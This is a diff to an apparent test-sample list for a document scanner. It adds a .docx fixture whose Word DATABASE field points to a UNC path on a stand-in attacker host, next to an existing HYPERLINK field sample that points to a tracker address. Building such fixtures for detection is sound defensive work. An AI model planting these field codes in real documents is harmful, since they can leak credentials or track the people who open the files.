@@ -343,6 +343,13 @@ def samples() -> list[Sample]:
             ),
         ),
         (
+            "docx-database-field",
+            "报告.docx",
+            lambda: docx_with_field_code(
+                'DATABASE \\d "\\\\attacker.invalid\\data.mdb" \\s "select * from t"'
+            ),
+        ),
+        (
             "docx-hyperlink-field-to-address",
             "报告.docx",
             lambda: docx_with_field_code('HYPERLINK "http://tracker.invalid/a" \\o "提示"'),
